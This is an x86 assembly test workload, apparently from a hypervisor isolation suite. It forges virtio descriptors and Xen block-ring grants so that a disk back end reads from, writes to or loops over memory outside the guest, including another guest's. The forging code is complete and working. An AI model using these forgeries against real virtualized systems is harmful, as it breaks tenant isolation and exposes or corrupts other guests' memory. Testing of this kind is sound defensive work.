#: title = "Forged contents of a shared ring"
#: stresses = "a driver whose ring leads its disk's back end to memory that is not its guest's"
#: outcome = "nothing: whether an attack succeeded shows in the counters and in the victim, not here"
#: small = { forgery = 0 }
#: standard = { forgery = 0 }
#: large = { forgery = 0 }
#: needs = ["copy engine", "rings"]
#: variants.write = { forgery = 1 }
#: variants.beyond = { forgery = 2 }
#: variants.loop = { forgery = 3 }

# What is forged, in virtio's ring and in Xen's:
#
#   0  the victim's memory is written to the disk    a descriptor's address      the frame of a grant
#   1  the disk is read into the victim's memory     as above                    as above
#   2  the disk is read to behind one's own memory   a descriptor's number       the sectors of a segment
#   3  the back end is given more than there is      a chain that is a loop      the count of requests
#
# The copy engine's ports say where the victim is; natively they are all ones, and there is nobody to attack.
.set ENGINE_TARGET, 0x5b8
.set ENGINE_BASE, 0x5c0
.set FORGE_READ, 0
.set FORGE_WRITE, 1
.set FORGE_BEYOND, 2
.set FORGE_LOOP, 3
.set FORGED_SECTOR, 5
.set PATIENCE, 15000                # loops, in which a request is done or is never going to be

@kernel
workload_main:
    push rbx
    push rbp
    push r12
    mov ebx, [rdi + PARAM_FORGERY * 8]
    mov ecx, ENGINE_TARGET
    call wide_register
    cmp rax, -1
    je .done
    mov rbp, rax                    # the target's machine address
    mov ecx, ENGINE_BASE
    call wide_register
    mov r12, rax                    # that of this guest's memory
    call initialise_devices
    jnz .failed
    ROI_BEGIN
    call forge
    mov ecx, PATIENCE
.wait:
    pause
    dec ecx
    jnz .wait
    ROI_END
.done:
    xor eax, eax
    jmp .end
.failed:
    mov eax, 1
.end:
    pop r12
    pop rbp
    pop rbx
    .irp register, ecx, edx, esi, edi, r8d, r9d, r10d, r11d
    xor \register, \register
    .endr
    ret

# ECX = port -> RAX = its 64-bit register
wide_register:
    granted_in ecx
    mov r8d, eax
    lea ecx, [rcx + 4]
    granted_in ecx
    shl rax, 32
    or rax, r8
    ret

# EBX = what is forged -> EAX = the operation, 0 to read the disk, 1 to write it
operation:
    xor eax, eax
    cmp ebx, FORGE_READ
    sete al
    ret

.ifdef PV
.set FORGED_GRANT, ENTRIES - 1      # of the last page of the devices' block
.set BLKIF_FLUSH, 3
.set BEYOND_SECTOR, SECTORS_PER_PAGE

forge:
    call operation
    mov rdi, [rip + xen_disk_ring]
    mov [rdi + RING_START], al
    mov byte ptr [rdi + RING_START + 1], 1
    mov qword ptr [rdi + RING_START + BLKIF_SECTOR], FORGED_SECTOR
    mov dword ptr [rdi + RING_START + BLKIF_SEGMENT], FORGED_GRANT
    mov dword ptr [rdi + RING_START + BLKIF_SEGMENT + 4], 0
    mov ecx, 1                      # requests
    mov rax, rbp
    cmp ebx, FORGE_LOOP
    je .many
    cmp ebx, FORGE_BEYOND
    jne .granted
    mov word ptr [rdi + RING_START + BLKIF_SEGMENT + 4], BEYOND_SECTOR << 8 | BEYOND_SECTOR
    mov rax, [rip + ram_bytes]
    lea rax, [rax + r12 - PAGE]     # one's own last frame
.granted:
    shr rax, 12
    lea rdx, [rip + xen_grant_table]
    mov [rdx + FORGED_GRANT * 8 + 4], eax
    jmp .publish
.many:
    mov byte ptr [rdi + RING_START], BLKIF_FLUSH
    mov ecx, BLKIF_ENTRIES + 1
.publish:
    mov [rip + xen_disk_requests], ecx
    lea r8, [rip + xen_disk_told]
    lea rsi, [rip + xen_disk_port]
    jmp push_requests
.else
.set VIRTIO_PORTS, VIRTIO_QUEUE_NOTIFY
.set LAST_QUEUE, LARGE_PAGE - VIRTQUEUE_BYTES   # at the end of the devices' block, and of memory
.set BEYOND_DESCRIPTOR, VIRTQUEUE_BYTES / 16
.set DESCRIPTOR_NUMBER, 14          # offset of a descriptor's `next`

forge:
    push rbx
    push rbp
    sub rbp, r12                    # guest-physical, as if there were no end
    cmp ebx, FORGE_BEYOND
    jne .placed
    push rbp
    mov ebp, [rip + virtio_disk_queue + QUEUE_PORT]
    sub ebp, VIRTIO_PORTS
    xor edi, edi
    lea rsi, [rip + virtio_disk_queue]
    mov edx, LAST_QUEUE
    call virtio_open_queue
    pop rbp
.placed:
    mov r11, [rip + dma_block]
    mov r8, [rip + virtio_disk_queue + QUEUE_POINTER]
    call operation
    mov [r11 + REQUEST_HEADER], eax
    mov qword ptr [r11 + REQUEST_HEADER + 8], FORGED_SECTOR
    shl eax, 1
    xor eax, DESCRIPTOR_NEXT | DESCRIPTOR_WRITE
    push rax                        # flags of the data's descriptor
    xor ecx, ecx
    lea rax, [r11 + REQUEST_HEADER]
    mov edx, 16
    mov r9d, DESCRIPTOR_NEXT
    call virtio_describe
    mov ecx, 1
    lea rax, [r11 + DMA_DISK]
    mov edx, SECTOR
    pop r9
    call virtio_describe
    mov [r8 + 16], rbp              # the address of descriptor 1
    mov ecx, 2
    lea rax, [r11 + REQUEST_STATUS]
    mov edx, 1
    mov r9d, DESCRIPTOR_WRITE
    call virtio_describe
    cmp ebx, FORGE_BEYOND
    jb .add
    ja .loop
    mov word ptr [r8 + DESCRIPTOR_NUMBER], BEYOND_DESCRIPTOR
    jmp .add
.loop:
    mov word ptr [r8 + DESCRIPTOR_NUMBER], 0
.add:
    lea rsi, [rip + virtio_disk_queue]
    xor ecx, ecx
    call virtio_add
    call virtio_kick
    pop rbp
    pop rbx
    ret
.endif
